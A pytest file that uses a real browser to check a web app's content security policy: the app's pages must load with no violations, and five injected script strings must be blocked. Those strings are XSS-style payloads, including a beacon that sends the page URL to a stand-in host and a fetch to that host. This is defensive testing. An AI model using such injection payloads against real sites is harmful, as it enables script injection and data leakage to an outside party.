"""The content policy in a real browser: it lets all of the app work, and nothing else."""

import pytest

PAGES = ("/", "/browse", "/segment", "/teach", "/evaluate", "/compare", "/train")


@pytest.fixture
def attacked(profile):
    """A visitor's page whose complaints are what is wanted; `page` would fail on them."""
    visitor = profile.new_page()
    yield visitor
    visitor.close()


pytestmark = pytest.mark.usefixtures("stored_model")


def refused(page):
    """Collect what the policy refuses from now on; a browser's own words."""
    found = []
    page.on("console", lambda said: found.append(said.text) if "Policy" in said.text else None)
    return found


@pytest.mark.parametrize("path", PAGES)
def test_no_page_needs_what_the_policy_refuses(page, wait_until_idle, path):
    found = refused(page)

    page.goto(path)
    wait_until_idle(page)

    assert found == []


@pytest.mark.parametrize(
    "attack",
    [
        "document.head.append(Object.assign(document.createElement('script'), {text: 'hit = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"hit = 1\">')",
        "setTimeout('hit = 1')",
        "new Image().src = 'http://other.example/?' + location",
        "fetch('http://other.example/').catch(() => 0)",
    ],
)
def test_text_that_got_into_a_page_runs_nothing_and_tells_nobody(attacked, wait_until_idle, attack):
    attacked.goto("/")
    wait_until_idle(attacked)
    found = refused(attacked)

    attacked.evaluate(f"() => {{ {attack} }}")
    attacked.wait_for_timeout(500)

    assert attacked.evaluate("() => window.hit") is None
    assert found
